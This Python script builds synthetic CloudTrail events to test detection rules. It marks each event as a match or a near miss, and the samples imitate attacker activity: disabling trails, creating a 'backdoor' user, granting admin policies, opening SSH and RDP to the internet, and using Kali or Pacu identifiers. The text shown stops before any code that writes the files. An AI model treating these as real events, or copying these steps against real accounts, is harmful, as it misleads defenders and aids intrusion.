#!/usr/bin/env python3
"""Writes the CloudTrail trail files of tests/detect/features: events/*.json for the rules of
rules/ (ctq and the reference agree on them) and disputed-events/*.json for the rules of
disputed/ (they do not). Deterministic: the same files every run.

    python3 tests/detect/features/make_events.py

Each block below names the rule it is for and marks every event MATCH (the rule fires) or
MISS (a near miss: the same event with the detail that matters changed). Times are in 2025,
addresses are documentation addresses (192.0.2.0/24, 198.51.100.0/24, 203.0.113.0/24,
2001:db8::/32), accounts are the documentation accounts 111122223333 and 444455556666.
"""

import base64
import datetime
import json
import os
import uuid

HERE = os.path.dirname(os.path.abspath(__file__))
ACCOUNT = "111122223333"
OTHER = "444455556666"
NS = uuid.UUID("6f1c1c52-3d0c-4a8e-9a43-0c2b3f0e7a11")
CLI = "aws-cli/2.15.30 Python/3.11.8 Linux/6.1.79-99.167.amzn2023.x86_64 exe/x86_64.amzn.2023 prompt/off"
CONSOLE = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36"
BOTO = "Boto3/1.34.84 md/Botocore#1.34.84 ua/2.0 os/linux#6.1.79 md/arch#x86_64 lang/python#3.11.8 cfg/retry-mode#legacy Botocore/1.34.84"

_clock = {"t": None, "n": 0}


class Events:
    """One trail file's events, numbered and timed in the order they are made."""

    def __init__(self, name, start):
        self.name = name
        self.records = []
        self.t = datetime.datetime.fromisoformat(start)

    def add(self, e):
        self.t += datetime.timedelta(seconds=97)
        n = len(self.records)
        key = f"{self.name}/{n}"
        e["eventTime"] = self.t.strftime("%Y-%m-%dT%H:%M:%SZ")
        e["eventID"] = str(uuid.uuid5(NS, key))
        e["requestID"] = str(uuid.uuid5(NS, key + "/request"))
        self.records.append(order(e))
        return e


FIELD_ORDER = ["eventVersion", "userIdentity", "eventTime", "eventSource", "eventName", "awsRegion",
               "sourceIPAddress", "userAgent", "errorCode", "errorMessage", "requestParameters",
               "responseElements", "additionalEventData", "requestID", "eventID", "readOnly",
               "resources", "eventType", "managementEvent", "recipientAccountId", "vpcEndpointId",
               "eventCategory", "tlsDetails"]


def order(e):
    out = {k: e[k] for k in FIELD_ORDER if k in e}
    out.update({k: v for k, v in e.items() if k not in out})
    return out


# ------------------------------------------------------------------ identities

def iam_user(name, account=ACCOUNT, key="AKIAIOSFODNN7EXAMPLE", console=False):
    u = {"type": "IAMUser", "principalId": "AIDA" + uuid.uuid5(NS, name).hex[:17].upper(),
         "arn": f"arn:aws:iam::{account}:user/{name}", "accountId": account, "accessKeyId": key,
         "userName": name}
    if console:
        u["sessionContext"] = {"sessionIssuer": {}, "webIdFederationData": {},
                               "attributes": {"creationDate": "2025-03-03T07:55:12Z", "mfaAuthenticated": "true"}}
    return u


def role(role_name, session, account=ACCOUNT, invoked_by=None):
    rid = "AROA" + uuid.uuid5(NS, role_name).hex[:17].upper()
    u = {"type": "AssumedRole", "principalId": f"{rid}:{session}",
         "arn": f"arn:aws:sts::{account}:assumed-role/{role_name}/{session}", "accountId": account,
         "accessKeyId": "ASIAIOSFODNN7EXAMPLE",
         "sessionContext": {"sessionIssuer": {"type": "Role", "principalId": rid,
                                              "arn": f"arn:aws:iam::{account}:role/{role_name}",
                                              "accountId": account, "userName": role_name},
                            "webIdFederationData": {},
                            "attributes": {"creationDate": "2025-03-03T07:40:00Z", "mfaAuthenticated": "false"}}}
    if invoked_by is not None:
        u["invokedBy"] = invoked_by
    return u


def root(account=ACCOUNT):
    return {"type": "Root", "principalId": account, "arn": f"arn:aws:iam::{account}:root",
            "accountId": account, "accessKeyId": "ASIAIOSFODNN7ROOTEXA"}


def service(name):
    return {"type": "AWSService", "invokedBy": name}


# ------------------------------------------------------------------ events

def ev(name, source, ident=None, params=None, resp=None, ip="192.0.2.10", ua=CLI,
       region="us-east-1", read_only=False, version="1.09", error=None, message=None,
       account=ACCOUNT, category="Management", **extra):
    e = {"eventVersion": version,
         "userIdentity": ident if ident is not None else iam_user("alice"),
         "eventSource": source, "eventName": name, "awsRegion": region,
         "sourceIPAddress": ip, "userAgent": ua}
    if error is not None:
        e["errorCode"] = error
    if message is not None:
        e["errorMessage"] = message
    e["requestParameters"] = params
    e["responseElements"] = resp
    e["readOnly"] = read_only
    e["eventType"] = "AwsApiCall"
    e["managementEvent"] = category == "Management"
    e["recipientAccountId"] = account
    e["eventCategory"] = category
    e.update(extra)
    return e


def s3_data(name, bucket, key, ident=None, ip="192.0.2.20", bucket_account=ACCOUNT, **kw):
    params = {"bucketName": bucket, "Host": f"{bucket}.s3.us-east-1.amazonaws.com", "key": key}
    res = [{"type": "AWS::S3::Object", "ARN": f"arn:aws:s3:::{bucket}/{key}"},
           {"accountId": bucket_account, "type": "AWS::S3::Bucket", "ARN": f"arn:aws:s3:::{bucket}"}]
    e = ev(name, "s3.amazonaws.com", ident=ident, params=params, ip=ip, ua=BOTO,
           read_only=name.startswith("Get"), version="1.10", category="Data",
           additionalEventData={"SignatureVersion": "SigV4", "CipherSuite": "TLS_AES_128_GCM_SHA256",
                                "bytesTransferredIn": 0, "AuthenticationMethod": "AuthHeader",
                                "x-amz-id-2": "Kq7ZcV1Xb0jYwQ2mJmPzY3w8vEXAMPLE", "bytesTransferredOut": 1843},
           resources=res, **kw)
    e["eventType"] = "AwsApiCall"
    return e


def console_login(user_ident, ip, mfa="Yes", result="Success"):
    return ev("ConsoleLogin", "signin.amazonaws.com", ident=user_ident, ip=ip, ua=CONSOLE,
              resp={"ConsoleLogin": result},
              additionalEventData={"LoginTo": "https://console.aws.amazon.com/console/home",
                                   "MobileVersion": "No", "MFAUsed": mfa},
              version="1.08", eventType="AwsConsoleSignIn")


def assume_role(session, ident=None, duration=3600, role_name="OpsRole", account=ACCOUNT, **kw):
    params = {"roleArn": f"arn:aws:iam::{account}:role/{role_name}", "roleSessionName": session}
    if duration is not None:
        params["durationSeconds"] = duration
    return ev("AssumeRole", "sts.amazonaws.com", ident=ident, params=params, read_only=True,
              resp={"credentials": {"accessKeyId": "ASIAIOSFODNN7EXAMPLE",
                                    "sessionToken": "IQoJb3JpZ2luX2VjEXAMPLE",
                                    "expiration": "Mar 3, 2025, 10:00:00 AM"},
                    "assumedRoleUser": {"assumedRoleId": f"AROAEXAMPLE:{session}",
                                        "arn": f"arn:aws:sts::{account}:assumed-role/{role_name}/{session}"}},
              resources=[{"accountId": account, "type": "AWS::IAM::Role",
                          "ARN": f"arn:aws:iam::{account}:role/{role_name}"}], **kw)


def send_command(commands, ident=None, doc="AWS-RunShellScript"):
    return ev("SendCommand", "ssm.amazonaws.com", ident=ident or role("AutomationRole", "runbook"),
              params={"documentName": doc, "instanceIds": ["i-0abcd1234efgh5678"],
                      "parameters": {"commands": commands, "executionTimeout": ["3600"]},
                      "interactive": False},
              resp={"command": {"commandId": str(uuid.uuid5(NS, repr(commands))), "documentName": doc,
                                "status": "Pending"}})


def b64(text):
    return base64.b64encode(text.encode()).decode()


def policy(action, resource, pretty):
    doc = {"Version": "2012-10-17", "Statement": [{"Effect": "Allow", "Action": action, "Resource": resource}]}
    return json.dumps(doc, indent=4) if pretty else json.dumps(doc)


# ================================================================== main set: events/

def identity_and_paths(E):
    org = lambda s: role("OrganizationAccountAccessRole", s, account=OTHER)
    # f01 dotted path: userIdentity.sessionContext.sessionIssuer.userName
    E.add(assume_role("chain-1", ident=org("admin-session"), role_name="AuditRole", account=OTHER))      # MATCH
    E.add(assume_role("chain-2", ident=org("break-glass"), role_name="NetworkRole", account=OTHER))      # MATCH
    E.add(assume_role("chain-3", ident=role("ReadOnlyRole", "viewer")))                                  # MISS other issuer
    E.add(assume_role("chain-4", ident=iam_user("OrganizationAccountAccessRole")))                      # MISS the name at userIdentity.userName
    E.add(assume_role("chain-5", role_name="OrganizationAccountAccessRole"))                             # MISS the name in requestParameters.roleArn
    E.add(ev("ListRoles", "iam.amazonaws.com", ident=org("admin-session"), read_only=True))             # MISS not AssumeRole

    # f02 path across an array: resources.ARN (second element)
    E.add(s3_data("GetObject", "prod-payroll-exports", "2025/02/payroll.csv"))                          # MATCH
    E.add(s3_data("GetObject", "prod-payroll-exports", "2025/03/payroll.csv", ident=role("DataRole", "etl")))  # MATCH
    E.add(s3_data("GetObject", "prod-payroll-exports-old", "2024/12/payroll.csv"))                      # MISS bucket name longer
    E.add(s3_data("PutObject", "prod-payroll-exports", "2025/03/upload.csv"))                           # MISS PutObject
    e = s3_data("GetObject", "staging-exports", "copy-of/prod-payroll-exports")
    E.add(e)                                                                                             # MISS only a key and an object ARN hold the name

    # f03 path across nested arrays: ipPermissions.items[].ipRanges.items[].cidrIp
    def ingress(name, ranges_per_perm):
        perms = []
        for port, ranges in ranges_per_perm:
            perms.append({"ipProtocol": "tcp", "fromPort": port, "toPort": port,
                          "groups": {}, "ipRanges": {"items": ranges}, "ipv6Ranges": {}, "prefixListIds": {}})
        return ev(name, "ec2.amazonaws.com", ident=role("NetAdmin", "jdoe"),
                  params={"groupId": "sg-0123456789abcdef0", "ipPermissions": {"items": perms}},
                  resp={"requestId": "a1b2c3d4-5678-90ab-cdef-EXAMPLE11111", "_return": True})
    E.add(ingress("AuthorizeSecurityGroupIngress", [(443, [{"cidrIp": "10.0.0.0/8"}]),
                                                    (22, [{"cidrIp": "192.0.2.0/24"}, {"cidrIp": "0.0.0.0/0", "description": "temp"}])]))  # MATCH
    E.add(ingress("AuthorizeSecurityGroupIngress", [(3389, [{"cidrIp": "0.0.0.0/0"}])]))               # MATCH
    E.add(ingress("AuthorizeSecurityGroupIngress", [(22, [{"cidrIp": "10.0.0.0/8"}, {"cidrIp": "198.51.100.0/24"}])]))  # MISS
    E.add(ingress("AuthorizeSecurityGroupIngress", [(22, [{"cidrIp": "10.1.0.0/16", "description": "not 0.0.0.0/0"}])]))  # MISS
    E.add(ingress("AuthorizeSecurityGroupIngress", [(22, [{"cidrIp": "0.0.0.0/1"}])]))                 # MISS
    E.add(ingress("RevokeSecurityGroupIngress", [(22, [{"cidrIp": "0.0.0.0/0"}])]))                    # MISS Revoke

    # f49 field whose value is an array of strings: requestParameters.operations
    def grant(ops, who=None):
        return ev("CreateGrant", "kms.amazonaws.com", ident=who or role("AppRole", "app"),
                  params={"keyId": f"arn:aws:kms:us-east-1:{ACCOUNT}:key/1234abcd-12ab-34cd-56ef-1234567890ab",
                          "granteePrincipal": f"arn:aws:iam::{OTHER}:root", "operations": ops},
                  resp={"grantId": "0c237476b39f8bc44e45212e08498fbe3151305030726c0590dd8d3e9f3d6a60"})
    E.add(grant(["Encrypt", "Decrypt", "GenerateDataKey"]))                                              # MATCH
    E.add(grant(["Decrypt"]))                                                                            # MATCH
    E.add(grant(["DECRYPT", "ReEncryptFrom"]))                                                          # MATCH any case
    E.add(grant(["Encrypt", "GenerateDataKey"]))                                                        # MISS
    E.add(grant(["DecryptAll"]))                                                                        # MISS not whole
    E.add(ev("Decrypt", "kms.amazonaws.com", ident=role("AppRole", "app"), read_only=True,
             params={"encryptionAlgorithm": "SYMMETRIC_DEFAULT"}))                                      # MISS not CreateGrant

    # f50 field whose value is an object: requestParameters|contains
    E.add(ev("AttachUserPolicy", "iam.amazonaws.com",
             params={"userName": "bob", "policyArn": "arn:aws:iam::aws:policy/AdministratorAccess"}))   # MATCH
    E.add(ev("PutGroupPolicy", "iam.amazonaws.com",
             params={"groupName": "ops", "policyName": "inline",
                     "policyDocument": "{\"Statement\":[{\"Sid\":\"AdministratorAccessCopy\",\"Effect\":\"Allow\",\"Action\":\"iam:*\",\"Resource\":\"*\"}]}"}))  # MATCH
    E.add(ev("TagRole", "iam.amazonaws.com",
             params={"roleName": "ops", "tags": [{"key": "purpose", "value": "AdministratorAccess review"}]}))  # MATCH (array inside the object)
    E.add(ev("AttachUserPolicy", "iam.amazonaws.com",
             params={"userName": "bob", "policyArn": "arn:aws:iam::aws:policy/ReadOnlyAccess"}))        # MISS
    E.add(ev("GetPolicy", "iam.amazonaws.com", read_only=True,
             params={"policyArn": "arn:aws:iam::aws:policy/ReadOnlyAccess"},
             resp={"policy": {"policyName": "AdministratorAccess"}}))                                   # MISS only in responseElements
    E.add(ev("AttachUserPolicy", "sso.amazonaws.com",
             params={"userName": "bob", "policyArn": "arn:aws:iam::aws:policy/AdministratorAccess"}))   # MISS other eventSource

    # f16 contains|all over an object's values
    E.add(ev("AttachUserPolicy", "iam.amazonaws.com",
             params={"userName": "ci-deployer", "policyArn": "arn:aws:iam::aws:policy/AdministratorAccess"}))  # MATCH (two values); also f50
    E.add(ev("PutUserPolicy", "iam.amazonaws.com", region="eu-west-1",
             params={"userName": "CI-Deployer", "policyName": "AdministratorAccess-inline", "policyDocument": "{}"}))  # MATCH any case; also f50
    E.add(ev("AttachUserPolicy", "iam.amazonaws.com", ident=iam_user("ci-deployer"),
             params={"userName": "bob", "policyArn": "arn:aws:iam::aws:policy/AdministratorAccess"}))   # MISS ci-deployer only outside requestParameters; also f50
    E.add(ev("AttachUserPolicy", "iam.amazonaws.com",
             params={"userName": "ci-deployer", "policyArn": "arn:aws:iam::aws:policy/PowerUserAccess"}))  # MISS


def lists_maps_case(E):
    # f04 list of values is OR
    for name in ("StopLogging", "DeleteTrail", "UpdateTrail"):                                          # MATCH x3
        E.add(ev(name, "cloudtrail.amazonaws.com", ident=role("Admin", "mallory"),
                 params={"name": f"arn:aws:cloudtrail:us-east-1:{ACCOUNT}:trail/org-trail"}))
    for name in ("StartLogging", "CreateTrail", "DescribeTrails"):                                      # MISS x3
        E.add(ev(name, "cloudtrail.amazonaws.com", ident=role("Admin", "mallory"), read_only=name.startswith("Describe"),
                 params={"name": f"arn:aws:cloudtrail:us-east-1:{ACCOUNT}:trail/org-trail"}))
    E.add(ev("StopLogging", "cloudtrail-data.amazonaws.com", params={"name": "x"}))                     # MISS other eventSource

    # f05 map is AND
    E.add(ev("CreateUser", "iam.amazonaws.com", ident=iam_user("intern"), params={"userName": "backdoor"},
             error="AccessDenied", message="User: arn:aws:iam::111122223333:user/intern is not authorized to perform: iam:CreateUser"))  # MATCH
    E.add(ev("CreateUser", "iam.amazonaws.com", ident=role("Dev", "dev1"), params={"userName": "svc-x"},
             error="AccessDenied", message="not authorized"))                                           # MATCH
    E.add(ev("CreateUser", "iam.amazonaws.com", params={"userName": "carol"},
             resp={"user": {"userName": "carol", "arn": f"arn:aws:iam::{ACCOUNT}:user/carol"}}))       # MISS no errorCode
    E.add(ev("CreateUser", "iam.amazonaws.com", params={"userName": "carol"}, error="EntityAlreadyExists",
             message="User with name carol already exists."))                                           # MISS other errorCode
    E.add(ev("CreateRole", "iam.amazonaws.com", params={"roleName": "x"}, error="AccessDenied",
             message="not authorized"))                                                                 # MISS other eventName

    # f06 list of maps is OR
    E.add(ev("CreateAccessKey", "iam.amazonaws.com", ident=root(), ip="198.51.100.23",
             resp={"accessKey": {"accessKeyId": "AKIAIOSFODNN7ROOTKEY", "status": "Active"}}))          # MATCH first map
    E.add(console_login(iam_user("dave"), "192.0.2.44", mfa="No"))                                       # MATCH second map
    E.add(ev("CreateAccessKey", "iam.amazonaws.com", params={"userName": "erin"},
             resp={"accessKey": {"accessKeyId": "AKIAIOSFODNN7ERINKEY", "status": "Active"}}))         # MISS IAM user
    E.add(console_login(iam_user("dave"), "192.0.2.44", mfa="Yes"))                                      # MISS MFA used
    E.add(console_login(root(), "192.0.2.45", mfa="Yes"))                                                # MISS root + ConsoleLogin mixes the maps

    # f07 case-insensitive whole-string matching
    def put_user_policy(name, src="iam.amazonaws.com"):
        return ev("PutUserPolicy", src, params={"userName": "bob", "policyName": name,
                                                "policyDocument": policy("s3:GetObject", "arn:aws:s3:::reports/*", False)})
    E.add(put_user_policy("AdminAccess"))                                                                # MATCH
    E.add(put_user_policy("adminaccess"))                                                                # MATCH
    E.add(put_user_policy("AdminAccess2"))                                                               # MISS not whole
    E.add(put_user_policy("Admin Access"))                                                               # MISS
    E.add(put_user_policy("AdminAccess", src="iam.amazonaws.com.evil.example"))                         # MISS eventSource longer

    # f08 wildcards * and ?
    E.add(put_user_policy("ReadReports"))                                                                # MATCH PutUserPolicy, us-east-1 (also f21/f22 no)
    E.add(ev("PutRolePolicy", "iam.amazonaws.com", region="us-west-1",
             params={"roleName": "r", "policyName": "p", "policyDocument": "{}"}))                       # MATCH
    E.add(ev("PutBucketPolicy", "s3.amazonaws.com", region="us-west-1",
             params={"bucketName": "team-share", "policy": "{}"}))                                      # MATCH
    E.add(ev("PutRolePolicy", "iam.amazonaws.com", region="us-east-2",
             params={"roleName": "r", "policyName": "p", "policyDocument": "{}"}))                       # MISS region ends -2
    E.add(ev("PutRolePolicy", "iam.amazonaws.com", region="us-gov-west-1",
             params={"roleName": "r", "policyName": "p", "policyDocument": "{}"}))                       # MISS ? is one character
    E.add(ev("PutRolePermissionsBoundary", "iam.amazonaws.com",
             params={"roleName": "r", "permissionsBoundary": "arn:aws:iam::aws:policy/PowerUserAccess"}))  # MISS not ...Policy

    # f09 escaped wildcards
    E.add(s3_data("GetObject", "reports", "exports/*.csv"))                                              # MATCH \*
    E.add(s3_data("GetObject", "reports", "tmp/report?.txt"))                                            # MATCH \?
    E.add(s3_data("GetObject", "reports", "logs\\2025-03-01.gz"))                                        # MATCH \\ then *
    E.add(s3_data("GetObject", "reports", "exports/all.csv"))                                            # MISS * is not a wildcard
    E.add(s3_data("GetObject", "reports", "tmp/report1.txt"))                                            # MISS ? is not a wildcard
    E.add(s3_data("GetObject", "reports", "logs/2025-03-01.gz"))                                         # MISS no backslash

    # f10 cased
    E.add(console_login(iam_user("BreakGlass"), "192.0.2.50"))                                           # MATCH
    E.add(console_login(iam_user("BreakGlass", account=OTHER), "192.0.2.51"))                            # MATCH
    E.add(console_login(iam_user("breakglass"), "192.0.2.52"))                                           # MISS case
    E.add(console_login(iam_user("BREAKGLASS"), "192.0.2.53"))                                           # MISS case
    E.add(console_login(iam_user("BreakGlass2"), "192.0.2.54"))                                          # MISS not whole

    # f11 contains|cased
    for name in ("OrgAdminRole", "AdminRole"):                                                           # MATCH x2
        E.add(ev("CreateRole", "iam.amazonaws.com", params={"roleName": name, "assumeRolePolicyDocument": "{}"}))
    for name in ("orgadminrole", "ORGADMINROLE", "OrgReaderRole"):                                       # MISS x3
        E.add(ev("CreateRole", "iam.amazonaws.com", params={"roleName": name, "assumeRolePolicyDocument": "{}"}))


def strings_and_regex(E):
    # f12 contains (user agents)
    E.add(ev("GetCallerIdentity", "sts.amazonaws.com", read_only=True, ip="192.0.2.60",
             ua="aws-cli/2.13.5 Python/3.11.4 Linux/6.3.0-kali1-amd64 exe/x86_64.kali.2023 prompt/off command/sts.get-caller-identity"))  # MATCH
    E.add(ev("ListBuckets", "s3.amazonaws.com", read_only=True, ip="192.0.2.61",
             ua="Boto3/1.28.0 Python/3.11.2 Linux/6.1.0-1parrot1-amd64 Botocore/1.31.0"))               # MATCH
    E.add(ev("ListUsers", "iam.amazonaws.com", read_only=True, ip="192.0.2.62",
             ua="aws-cli/1.29.0 Python/3.11 Linux/6.5.0-KALI-amd64 botocore/1.31.0"))                   # MATCH any case
    E.add(ev("GetCallerIdentity", "sts.amazonaws.com", read_only=True, ip="192.0.2.63",
             ua="aws-cli/2.13.5 Python/3.11.4 Linux/6.1.0-1019-aws exe/x86_64.ubuntu.22 prompt/off"))    # MISS
    E.add(ev("GetCallerIdentity", "sts.amazonaws.com", read_only=True, ip="192.0.2.64",
             ua="aws-cli/2.13.5 Python/3.11.4 Linux/6.1.0 exe/x86_64.debian.12", params={"note": "kali"}))  # MISS kali not in userAgent

    # f13 startswith (lower-case value)
    E.add(ev("DeleteBucket", "s3.amazonaws.com", params={"bucketName": "old-logs"}))                    # MATCH
    E.add(ev("DeleteBucketPolicy", "s3.amazonaws.com", params={"bucketName": "team-share"}))            # MATCH
    E.add(ev("DeleteObjects", "s3.amazonaws.com", params={"bucketName": "team-share", "delete": ""}, category="Data"))  # MATCH
    E.add(ev("PutBucketLifecycle", "s3.amazonaws.com", params={"bucketName": "team-share"}))            # MISS
    E.add(ev("DeleteTrail", "cloudtrail.amazonaws.com", params={"name": "dev-trail"}))                  # MISS other eventSource (and f04 MATCH)

    # f14 endswith
    for b in ("acme-db-backup", "ACME-LOGS-BACKUP"):                                                     # MATCH x2
        E.add(ev("PutBucketPolicy", "s3.amazonaws.com", params={"bucketName": b, "policy": "{}"}))
    for b in ("acme-backup-2025", "acme-backups"):                                                       # MISS x2
        E.add(ev("PutBucketPolicy", "s3.amazonaws.com", params={"bucketName": b, "policy": "{}"}))

    # f15 contains|all in the user agent
    shell = "aws-cli/2.15.30 Python/3.11.8 Linux/6.1.79-99.164.amzn2023.x86_64 exec-env/CloudShell exe/x86_64.amzn.2023 prompt/off command/iam.create-user"
    E.add(ev("CreateUser", "iam.amazonaws.com", ua=shell, params={"userName": "temp-admin"}))            # MATCH
    E.add(ev("ListUsers", "iam.amazonaws.com", ua=shell.replace("command/iam.create-user", "command/iam.list-users"), read_only=True))  # MATCH
    E.add(ev("ListUsers", "iam.amazonaws.com", ua=shell.replace("exec-env/CloudShell", "exec-env/EC2"), read_only=True))  # MISS
    E.add(ev("ListUsers", "iam.amazonaws.com", ua="Boto3/1.34.84 Python/3.11.8 exec-env/CloudShell Botocore/1.34.84", read_only=True))  # MISS

    # f17 re, case-sensitive
    for name in ("svc-deploy-01", "svc-backup-17"):                                                      # MATCH x2
        E.add(ev("CreateUser", "iam.amazonaws.com", params={"userName": name}))
    for name in ("SVC-deploy-01", "svc-deploy-1", "x-svc-deploy-01", "svc-deploy-01-old"):              # MISS x4
        E.add(ev("CreateUser", "iam.amazonaws.com", params={"userName": name}))

    # f18 re|i ; f29 fieldref|startswith ; f30 gt ; f37 null -- AssumeRole events
    E.add(assume_role("Pacu-Session", duration=43200))                                                   # f18 MATCH, f30 MATCH, f37 MATCH (no invokedBy)
    E.add(assume_role("STRATUS-red-team", duration=7200, ident=role("CI", "runner", invoked_by=None)))   # f18 MATCH, f30 MATCH
    E.add(assume_role("my-pacu", duration=3600))                                                         # f18 MISS anchor, f30 MISS (=3600)
    E.add(assume_role("botocore-session-1741000000", duration=900))                                      # f18 MISS, f30 MISS
    E.add(assume_role("alice-ops", duration=None))                                                       # f29 MATCH (alice...), f30 MISS absent
    E.add(assume_role("ALICE-reporting"))                                                                # f29 MATCH any case
    E.add(assume_role("ops-alice"))                                                                      # f29 MISS
    E.add(assume_role("bob-ops", ident=iam_user("alice")))                                               # f29 MISS
    E.add(assume_role("svc", ident=service("ec2.amazonaws.com")))                                        # f37 MISS invokedBy set
    e = role("CI", "runner")
    e["invokedBy"] = None
    E.add(assume_role("ci-build", ident=e))                                                              # f37 MATCH invokedBy null
    e = role("CI", "runner")
    e["invokedBy"] = ""
    E.add(assume_role("ci-build-2", ident=e))                                                            # f37 MISS invokedBy empty string

    # f19 / f20 re with and without m ; f38 empty string
    def sg(desc, **kw):
        params = {"groupName": "tmp-" + uuid.uuid5(NS, repr(desc)).hex[:6], "vpcId": "vpc-0a1b2c3d4e5f67890"}
        if desc is not ...:
            params["groupDescription"] = desc
        return ev("CreateSecurityGroup", "ec2.amazonaws.com", params=params,
                  resp={"_return": True, "groupId": "sg-0fedcba9876543210"}, **kw)
    E.add(sg("temporary access\nowner: red-team\nexpires: never"))                                       # f19 MATCH, f20 MISS
    E.add(sg("owner: red-team"))                                                                         # f19 MATCH, f20 MATCH
    E.add(sg("owner: red-team", region="us-west-2"))                                                    # f19 MATCH, f20 MATCH
    E.add(sg("owner: red-team-2\nexpires: never"))                                                       # f19 MISS, f20 MISS
    E.add(sg("temporary access owner: red-team"))                                                        # f19 MISS, f20 MISS
    E.add(sg("Owner: Red-Team"))                                                                         # f19 MISS case, f20 MISS
    E.add(sg(""))                                                                                        # f38 MATCH
    E.add(sg("", region="eu-west-1"))                                                                    # f38 MATCH
    E.add(sg(" "))                                                                                       # f38 MISS blank
    E.add(sg(None))                                                                                      # f38 MISS null
    E.add(sg(...))                                                                                       # f38 MISS absent

    # f21 / f22 re with and without s
    def put_pol(doc):
        return ev("PutUserPolicy", "iam.amazonaws.com", region="eu-west-1",
                  params={"userName": "bob", "policyName": "p", "policyDocument": doc})
    E.add(put_pol(policy("*", "*", pretty=True)))                                                        # f21 MATCH, f22 MISS (lines)
    E.add(put_pol(policy("*", "*", pretty=False)))                                                       # f21 MATCH, f22 MATCH
    E.add(put_pol('{"Statement":{"Effect":"Allow","Action":"*","Resource":"*"}}'))                      # f21 MATCH, f22 MATCH
    E.add(put_pol(policy("s3:*", "*", pretty=True)))                                                     # f21 MISS, f22 MISS
    E.add(put_pol(policy("*", "arn:aws:s3:::bucket/*", pretty=False)))                                   # f21 MISS, f22 MISS


def network_and_values(E):
    # f23 cidr IPv4
    E.add(console_login(iam_user("frank"), "203.0.113.66"))                                              # MATCH (and f39 keyword)
    E.add(console_login(iam_user("frank"), "198.51.100.7"))                                              # MATCH
    E.add(console_login(iam_user("frank"), "198.51.100.200"))                                            # MISS outside /25
    E.add(console_login(iam_user("frank"), "203.0.114.1"))                                               # MISS
    E.add(console_login(iam_user("frank"), "::ffff:203.0.113.5"))                                        # MISS an IPv6 address
    E.add(console_login(iam_user("frank"), "AWS Internal"))                                              # MISS not an address

    # f24 cidr IPv6
    for ip in ("2001:db8:abcd:12::5", "2001:DB8:ABCD::1"):                                               # MATCH x2
        E.add(ev("GetCallerIdentity", "sts.amazonaws.com", ip=ip, read_only=True))
    for ip in ("2001:db8:abce::1", "203.0.113.5", "2001:db8:abcd::1%eth0"):                              # MISS x3
        E.add(ev("GetCallerIdentity", "sts.amazonaws.com", ip=ip, read_only=True))

    # f25 exists: true
    def secret(**kw):
        return ev("GetSecretValue", "secretsmanager.amazonaws.com", ident=role("AppRole", "app"), read_only=True,
                  params={"secretId": f"arn:aws:secretsmanager:us-east-1:{ACCOUNT}:secret:prod/db-AbCdEf"}, **kw)
    E.add(secret(error="AccessDenied", message="not authorized"))                                       # MATCH
    E.add(secret(error="ResourceNotFoundException", message="Secrets Manager can't find the specified secret."))  # MATCH
    E.add(secret(error=""))                                                                              # MATCH present, empty
    E.add(secret())                                                                                      # MISS absent
    E.add(secret(errorCode=None))                                                                        # MISS (both): null counted as absent; see f53

    # f53 exists: false on a null field (spec: exists checks presence only; ctq and reference agree)
    def get_pol(**kw):
        return ev("GetBucketPolicy", "s3.amazonaws.com", read_only=True, params={"bucketName": "team-share"}, **kw)
    E.add(get_pol())                                                                                     # MATCH absent
    E.add(get_pol(errorCode=None))                                                                       # MATCH null (spec would say present)
    E.add(get_pol(error="NoSuchBucketPolicy", message="The bucket policy does not exist"))              # MISS
    E.add(get_pol(error=""))                                                                             # MISS empty string is present

    # f26 exists: false
    def run(ident, **kw):
        return ev("RunInstances", "ec2.amazonaws.com", ident=ident,
                  params={"instancesSet": {"items": [{"imageId": "ami-0abcdef1234567890", "minCount": 1, "maxCount": 1}]},
                          "instanceType": "t3.micro"}, **kw)
    E.add(run(iam_user("gina")))                                                                         # MATCH long-term keys
    u = iam_user("gina")
    u["sessionContext"] = None
    E.add(run(u))                                                                                        # MATCH sessionContext null
    E.add(run(iam_user("gina", console=True)))                                                           # MISS
    E.add(run(role("Builder", "b1")))                                                                    # MISS AssumedRole

    # f31 gte across an array
    def run_n(counts):
        items = [{"imageId": "ami-0abcdef1234567890", "minCount": 1, "maxCount": c} for c in counts]
        return ev("RunInstances", "ec2.amazonaws.com", ident=role("Builder", "b1"),
                  params={"instancesSet": {"items": items}, "instanceType": "p4d.24xlarge"})
    E.add(run_n([20]))                                                                                   # MATCH equal
    E.add(run_n([1, 50]))                                                                                # MATCH second item
    E.add(run_n([19]))                                                                                   # MISS
    E.add(run_n([1, 2, 3]))                                                                              # MISS

    # f32 lt on numbers and numeric strings
    def pw(n):
        p = {"requireSymbols": True, "requireNumbers": True, "maxPasswordAge": 90}
        if n is not ...:
            p["minimumPasswordLength"] = n
        return ev("UpdateAccountPasswordPolicy", "iam.amazonaws.com", ident=root(), params=p)
    E.add(pw(8))                                                                                         # MATCH number
    E.add(pw("12"))                                                                                      # MATCH numeric string
    E.add(pw(13.5))                                                                                      # MATCH float
    E.add(pw(14))                                                                                        # MISS equal
    E.add(pw("16"))                                                                                      # MISS
    E.add(pw("twelve"))                                                                                  # MISS not a number
    E.add(pw(...))                                                                                       # MISS absent

    # f33 lte with a quoted numeric value over eventVersion (a string)
    for v in ("1.05", "1.04"):                                                                           # MATCH x2
        E.add(ev("ListBuckets", "s3.amazonaws.com", read_only=True, version=v))
    for v in ("1.08", "1.10"):                                                                           # MISS x2 (1.10 is 1.1)
        E.add(ev("ListBuckets", "s3.amazonaws.com", read_only=True, version=v))

    # f51 booleans and numbers in events as text ; f52 YAML boolean and integer
    def desc_inst(read_only, version, max_results, name="DescribeInstances"):
        return ev(name, "ec2.amazonaws.com", read_only=read_only, version=version,
                  params={"instancesSet": {}, "filterSet": {}, "maxResults": max_results})
    E.add(desc_inst(True, "1.08", 1000))                                                                 # f51 MATCH
    E.add(desc_inst("true", "1.08", "1000"))                                                             # f51 MATCH strings
    E.add(desc_inst(False, "1.08", 1000))                                                                # f51 MISS readOnly
    E.add(desc_inst(True, "1.09", 1000))                                                                 # f51 MISS version
    E.add(desc_inst(True, "1.08", 100))                                                                  # f51 MISS maxResults
    E.add(desc_inst(True, "1.08", 10000))                                                                # f51 MISS maxResults
    E.add(desc_inst(False, "1.09", 1000, name="DescribeSnapshots"))                                      # f52 MATCH
    E.add(desc_inst("false", "1.09", "1000", name="DescribeSnapshots"))                                  # f52 MATCH strings
    E.add(desc_inst(True, "1.09", 1000, name="DescribeSnapshots"))                                       # f52 MISS readOnly
